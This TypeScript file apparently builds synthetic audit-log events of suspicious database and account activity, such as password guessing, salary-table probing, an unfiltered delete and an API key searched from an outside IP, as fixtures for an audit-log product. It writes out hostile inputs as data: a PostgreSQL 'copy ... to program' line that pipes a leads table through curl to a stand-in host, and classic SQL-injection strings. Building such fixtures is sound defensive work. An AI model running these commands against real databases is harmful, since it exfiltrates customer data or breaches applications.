import type { Actor } from '@aleph-audit-log/domain/event'
import { browserOf, daysSince, failedSignIn, localMs } from './acts.ts'
import { makeAct, memberActor } from './make-act.ts'
import type { MadeEvent } from './made-event.ts'
import { makeQuery, makeSessionId, personClient, type Client } from './make-query.ts'
import { personOf } from './people.ts'
import { template, type QueryTemplate } from './query-template.ts'
import type { Random } from './random.ts'
import type { Span } from './rhythm.ts'

const minuteMs = 60_000

function on(
  kind: QueryTemplate['kind'],
  tables: string,
  rows: number | undefined,
  text: string,
): QueryTemplate {
  return template('warehouse', kind, tables, 40, rows, text)
}

type Failure = Parameters<typeof makeQuery>[0]['failure']

/** Statements one after the other. */
function run(
  random: Random,
  startMs: number,
  client: Client,
  statements: readonly QueryTemplate[],
  failure?: Failure,
): MadeEvent[] {
  let ms = startMs
  return statements.map((one) => {
    ms += random.logNormal(35_000, 0.3)
    return makeQuery({
      random,
      ms,
      client,
      template: one,
      failureRate: 0,
      routine: false,
      ...(one.rows === undefined ? {} : { rows: one.rows }),
      ...(failure === undefined ? {} : { failure }),
    })
  })
}

/** Somebody at their desk, in the afternoon of a weekday (1 is Monday), so many days ago or some more. */
function afternoon(login: string, span: Span, daysMin: number, weekday: number): number {
  const { zone } = personOf(login).office
  return localMs(zone, span, daysSince(zone, span, daysMin, weekday), 14.6)
}

function atDesk(random: Random, login: string, startMs: number, application = 'psql'): Client {
  return personClient(personOf(login), 'warehouse', application, random, startMs)
}

export function guessedPassword(random: Random, span: Span): MadeEvent[] {
  const person = personOf('hannah')
  const [ip, userAgent] = [
    '192.0.2.50',
    'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  ]
  let ms = localMs('UTC', span, 4, 19.4)
  const failed = Array.from({ length: 7 }, () =>
    failedSignIn(person.email, (ms += random.logNormal(21_000, 0.3)), ip, userAgent),
  )
  const signIn = makeAct({
    type: 'user_signed_in',
    ms: ms + 16_000,
    actor: memberActor(person),
    ip,
    userAgent,
  })
  return [...failed, signIn]
}

export function refusedAgain(random: Random, span: Span): MadeEvent[] {
  const startMs = afternoon('renata', span, 2, 3)
  const salaries = Array.from({ length: 8 }, (_, i) =>
    on(
      'read',
      'hr.salaries',
      undefined,
      `select * from hr.salaries where employee_id > ${i * 10} limit {limit}`,
    ),
  )
  const message = 'permission denied for table salaries'
  return run(random, startMs, atDesk(random, 'renata', startMs), salaries, {
    code: '42501',
    message,
    outcome: 'denied',
  })
}

export function lookedAround(random: Random, span: Span): MadeEvent[] {
  const startMs = afternoon('siyuan', span, 3, 2)
  const views = ['columns', 'tables', 'table_privileges', 'role_table_grants', 'views', 'routines']
  const questions = [...views, ...views].map((name, i) =>
    on(
      'read',
      `information_schema.${name}`,
      60 + i,
      `select * from information_schema.${name} where table_schema = 'hr'`,
    ),
  )
  return run(random, startMs, atDesk(random, 'siyuan', startMs), questions)
}

export function copiedOutside(random: Random, span: Span): MadeEvent[] {
  const startMs = afternoon('caroline', span, 2, 4)
  const copy = on(
    'export',
    'crm.leads',
    41_200,
    `copy crm.leads to program 'curl -s -T - https://files.example.net/drop'`,
  )
  return run(random, startMs, atDesk(random, 'caroline', startMs), [copy])
}

export function deletedAll(random: Random, span: Span): MadeEvent[] {
  const startMs = afternoon('alexandra', span, 2, 2)
  const all = on('write', '> marketing.spend', 18_214, 'delete from marketing.spend')
  return run(random, startMs, atDesk(random, 'alexandra', startMs), [all])
}

export function injectedText(random: Random, span: Span): MadeEvent[] {
  const startMs = localMs('UTC', span, 2, 3.1)
  const client: Client = {
    actor: { type: 'service', id: 'svc_shop', name: 'Web shop' },
    login: 'svc_shop',
    database: 'app',
    application: 'shop-web',
    ip: '10.10.2.21',
    sessionId: makeSessionId(random, startMs),
    timeoutMs: 60_000,
  }
  const attempts = [`x' OR '1'='1`, `x' OR 1=1 OR '1'='1`].map((text) =>
    template(
      'app',
      'read',
      'public.products',
      3,
      12,
      `SELECT "products".* FROM "products" WHERE "products"."name" = '${text}'`,
    ),
  )
  return run(random, startMs, client, attempts)
}

export function keyElsewhere(random: Random, span: Span): MadeEvent[] {
  const admin = personOf('grace')
  const madeMs = localMs(admin.office.zone, span, 5, 15.2)
  const target = { type: 'api_key', id: 'a1c4e0d2-5b1f-4f0a-9a57-0c6d2b7e9f13', name: 'Month end' }
  const key: Actor = { type: 'api_key', id: target.id, name: target.name }
  const created = makeAct({
    type: 'api_key_created',
    ms: madeMs,
    actor: memberActor(admin),
    ip: admin.ip,
    userAgent: browserOf(admin),
    data: { prefix: `aal_${random.hex(8)}`, scopes: ['events:read'] },
    targets: [target],
  })
  const searches = ['table:finance.payouts', 'table:hr.salaries', 'kind:export'].map((query, i) =>
    makeAct({
      type: 'audit_log_searched',
      ms: madeMs + (90 + i * 4) * minuteMs,
      actor: key,
      ip: '198.51.100.77',
      userAgent: 'curl/8.14.1',
      data: { query },
    }),
  )
  return [created, ...searches]
}

export function tookMuchAway(random: Random, span: Span): MadeEvent[] {
  const person = personOf('dmytro')
  let ms = afternoon('dmytro', span, 1, 1)
  return Array.from({ length: 9 }, (_, i) =>
    makeAct({
      type: 'audit_log_exported',
      ms: (ms += random.logNormal(170_000, 0.3)),
      actor: memberActor(person),
      ip: person.ip,
      userAgent: browserOf(person),
      data: { format: 'csv', query: `table:hr.salaries rows:>${i}` },
    }),
  )
}

export function turnedOff(_random: Random, span: Span): MadeEvent[] {
  const admin = personOf('olga')
  return [
    makeAct({
      type: 'settings_changed',
      ms: localMs(admin.office.zone, span, 3, 22.3),
      actor: memberActor(admin),
      ip: admin.ip,
      userAgent: browserOf(admin),
      data: { before: { bindParameters: 'masked' }, after: { bindParameters: 'none' } },
    }),
  ]
}

const readerActor: Actor = { type: 'system', id: 'postgres_log_reader', name: 'PostgreSQL log reader' }

function toldByReader(type: string, ms: number, data: Record<string, string | number>): MadeEvent {
  const made = makeAct({
    type,
    ms,
    actor: readerActor,
    ip: '10.10.1.5',
    userAgent: '',
    outcome: 'failure',
    data,
  })
  return {
    ...made,
    draft: { ...made.draft, context: { ip: '10.30.0.34' } },
    source: 'warehouse-postgres-log',
  }
}

export function wentPast(_random: Random, span: Span): MadeEvent[] {
  const ms = localMs('UTC', span, 2, 16.4)
  return [toldByReader('gateway_bypassed', ms, { login: 'grace', database: 'warehouse' })]
}

export function missingLines(_random: Random, span: Span): MadeEvent[] {
  const ms = localMs('UTC', span, 6, 4.9)
  return [toldByReader('log_gap_detected', ms, { reason: 'lines_missing', from: 118, to: 163 })]
}

export function agentReads(random: Random, span: Span): MadeEvent[] {
  const startMs = localMs('UTC', span, 1, 9.3)
  const client: Client = {
    actor: { type: 'ai_agent', id: 'sales-helper', name: 'Sales helper' },
    login: 'ai_sales_helper',
    database: 'warehouse',
    application: 'sales-helper (mcp)',
    ip: '10.10.4.41',
    sessionId: makeSessionId(random, startMs),
    timeoutMs: 60_000,
  }
  const reads = Array.from({ length: 5 }, () =>
    on(
      'read',
      'crm.contacts',
      20,
      `select name, email, phone from crm.contacts where lead_id = {id} limit 20`,
    ),
  )
  return run(random, startMs, client, reads)
}
